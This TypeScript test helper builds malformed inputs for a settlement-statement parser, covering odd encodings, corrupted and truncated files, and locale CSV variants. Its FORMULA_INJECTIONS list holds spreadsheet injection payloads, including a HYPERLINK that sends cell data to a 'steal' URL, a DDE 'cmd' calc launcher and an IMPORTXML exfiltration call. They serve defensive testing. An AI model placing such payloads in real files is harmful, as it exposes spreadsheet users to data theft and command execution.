/**
 * Builds the broken and hostile inputs of the corpus from one small reconciling statement, so
 * binary and large cases are made at test time instead of being stored. `make-files.ts` writes the
 * small text cases to test/corpus/files/ for anyone who wants to open them.
 */
import { strToU8, zipSync } from 'fflate';
import { generateStatementCsv } from '../../bench/synthetic-export';
import { parseCsv, toCsv } from '../../src/core/read/files/csv';
import { writeXlsx, type XlsxCell } from '../helpers/xlsx-writer';

/** The base file: 8 order/adjustment rows that reconcile to the cent. */
export const BASE = generateStatementCsv({ rows: 8, seed: 11, start: '2026-03-01', months: 1 });
export const BASE_ROWS: string[][] = parseCsv(BASE.csv);
export const HEADER = BASE_ROWS[0];

export function columnIndex(name: string): number {
  const i = HEADER.indexOf(name);
  if (i < 0) throw new Error(`no column ${name}`);
  return i;
}

/** A copy of the base rows with `cells` replaced: data row number (1 = first data row) → column → text. */
export function baseWith(changes: Record<number, Record<string, string>> = {}): string[][] {
  const rows = BASE_ROWS.map((r) => r.slice());
  for (const [row, cells] of Object.entries(changes)) {
    for (const [column, text] of Object.entries(cells)) rows[Number(row)][columnIndex(column)] = text;
  }
  return rows;
}

export const utf8 = (text: string): Uint8Array => strToU8(text);

export function utf16le(text: string, bom = true): Uint8Array {
  const out = new Uint8Array((bom ? 2 : 0) + text.length * 2);
  let o = 0;
  if (bom) {
    out[o++] = 0xff;
    out[o++] = 0xfe;
  }
  for (let i = 0; i < text.length; i++) {
    out[o++] = text.charCodeAt(i) & 0xff;
    out[o++] = text.charCodeAt(i) >> 8;
  }
  return out;
}

const WINDOWS_1252_EXTRAS: Record<string, number> = {
  '€': 0x80,
  '‚': 0x82,
  '„': 0x84,
  '…': 0x85,
  '‘': 0x91,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '–': 0x96,
  '—': 0x97,
  '™': 0x99,
};

/** Windows-1252 bytes, as older Excel saves "CSV" (Latin-1 plus dashes and curly quotes). */
export function windows1252(text: string): Uint8Array {
  return Uint8Array.from(text, (c) => {
    const code = c.charCodeAt(0);
    if (code <= 0xff && (code < 0x80 || code > 0x9f)) return code;
    const extra = WINDOWS_1252_EXTRAS[c];
    if (extra === undefined) throw new Error(`not in Windows-1252: ${c}`);
    return extra;
  });
}

/** Cents of a 2-decimal amount text, with BigInt arithmetic (independent of the parser under test). */
export function centsOfText(text: string): bigint {
  const t = text.trim();
  if (t === '' || t === '/' || t === '0') return 0n;
  const m = /^(-?)(\d+)(?:\.(\d{1,2}))?$/.exec(t);
  if (!m) throw new Error(`not a plain amount: ${t}`);
  const cents = BigInt(m[2]) * 100n + BigInt((m[3] ?? '').padEnd(2, '0'));
  return m[1] === '-' ? -cents : cents;
}

/** Settlement of the base rows whose data row number is not in `skip`. */
export function baseSettlement(skip: readonly number[] = []): number {
  let total = 0n;
  const col = columnIndex('Total settlement amount');
  for (let r = 1; r < BASE_ROWS.length; r++) if (!skip.includes(r)) total += centsOfText(BASE_ROWS[r][col]);
  return Number(total);
}

export const FORMULA_INJECTIONS = [
  '=HYPERLINK("http://example.com/steal?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=IMPORTXML(CONCAT("http://x/?",A2),"//a")',
  "'=already quoted",
];

/** Every text column of every data row holds a formula-looking string. */
export function formulaInjectionRows(): string[][] {
  const textColumns = [
    'Status',
    'Currency',
    'Product name',
    'SKU name',
    'Adjustment reason',
    'Collection methods',
    'Delivery option',
    'Signature confirmation service fee type',
    'Payment ID',
  ];
  const rows = BASE_ROWS.map((r) => r.slice());
  for (let r = 1; r < rows.length; r++) {
    textColumns.forEach((column, k) => {
      rows[r][columnIndex(column)] = FORMULA_INJECTIONS[(r + k) % FORMULA_INJECTIONS.length];
    });
  }
  return rows;
}

/** The base rows as an XLSX workbook (amounts as numbers, IDs as text), with options for quirks. */
export function baseXlsx(
  opts: { dimension?: string | null; rows?: string[][]; ids?: 'text' | 'mangled' } = {},
): Uint8Array {
  const rows = opts.rows ?? BASE_ROWS;
  const money = new Set([
    'Total settlement amount',
    'Net sales',
    'Gross sales',
    'Fees',
    'Shipping',
    'Referral fee',
  ]);
  const cells: XlsxCell[][] = rows.map((row, r) =>
    row.map((text, c) => {
      if (r === 0) return text;
      if (opts.ids === 'mangled' && r === 2 && HEADER[c] === 'Order/adjustment ID')
        return { number: '5.77E+17' };
      if (money.has(HEADER[c]) && /^-?\d+\.\d\d$/.test(text)) return Number(text);
      return text;
    }),
  );
  return writeXlsx([{ name: 'Statement', rows: cells, dimension: opts.dimension }]);
}

export function truncate(bytes: Uint8Array, fraction: number): Uint8Array {
  return bytes.slice(0, Math.floor(bytes.length * fraction));
}

/** Flips bytes inside the first entry's compressed data. */
export function corruptMiddle(bytes: Uint8Array): Uint8Array {
  const out = bytes.slice();
  const start = Math.floor(out.length / 3);
  for (let i = start; i < start + 64; i++) out[i] ^= 0x5a;
  return out;
}

export const zipWithoutWorkbook = (): Uint8Array =>
  zipSync({ 'readme.txt': strToU8('quarterly photos'), 'img/a.txt': strToU8('x') });

export const csv = (rows: readonly (readonly string[])[], delimiter: ',' | '\t' = ','): string =>
  toCsv(rows, delimiter);

/** Semicolon-separated, as a European-region Excel saves CSV; `decimalComma` also writes `12,34`. */
export function semicolonCsv(decimalComma: boolean): string {
  return (
    BASE_ROWS.map((row) =>
      row
        .map((cell) => {
          const text = decimalComma && /^-?\d+\.\d\d$/.test(cell) ? cell.replace('.', ',') : cell;
          return /[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
        })
        .join(';'),
    ).join('\r\n') + '\r\n'
  );
}

/** Amounts written with decimal commas in quoted fields of a comma-separated file. */
export function decimalCommaQuotedCsv(): string {
  return (
    BASE_ROWS.map((row, r) =>
      row
        .map((cell) =>
          r > 0 && /^-?\d+\.\d\d$/.test(cell)
            ? `"${cell.replace('.', ',')}"`
            : /[",\r\n]/.test(cell)
              ? `"${cell.replace(/"/g, '""')}"`
              : cell,
        )
        .join(','),
    ).join('\r\n') + '\r\n'
  );
}
